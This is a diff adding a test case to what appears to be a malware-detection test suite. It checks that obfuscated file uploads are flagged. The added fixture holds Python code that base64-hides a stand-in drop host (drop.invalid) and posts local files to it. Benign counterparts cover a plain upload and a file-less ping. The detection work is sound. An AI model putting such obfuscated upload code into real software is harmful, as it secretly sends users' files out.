@@ -61,3 +61,12 @@ test('a Roblox session cookie sent to a webhook is a stealer', async () => {
   const client = "import requests\nclass Client:\n    def __init__(self, cookie):\n        self.s = requests.Session()\n        self.s.cookies['.ROBLOSECURITY'] = cookie\n";
   assert.match(await verdict({ 'p/client.py': client }), /^clean/);
 });
+
+test('uploading local files to a hidden address is malicious even when called; to a plain one, or sending no files, is not', async () => {
+  const hidden = "import aiohttp, base64\nasync def sync(path):\n    form = aiohttp.FormData()\n    form.add_field('file', open(path, 'rb'))\n    async with aiohttp.ClientSession() as s:\n        await s.post(base64.b64decode('aHR0cDovL2Ryb3AuaW52YWxpZC91cGxvYWQ=').decode(), data=form)\n";
+  assert.match(await verdict({ 'p/sync.py': hidden }), /^malicious: Uploads local files to a hidden destination drop\.invalid/);
+  const plain = "import requests\ndef upload(path):\n    requests.post('https://api.example.com/files', files={'file': open(path, 'rb')})\n";
+  assert.match(await verdict({ 'p/up.py': plain }), /^clean/);
+  const ping = "import requests, base64\ndef ping():\n    requests.post(base64.b64decode('aHR0cDovL2Ryb3AuaW52YWxpZC91cGxvYWQ=').decode(), json={'v': 1})\n";
+  assert.doesNotMatch(await verdict({ 'p/ping.py': ping }), /^malicious/);
+});
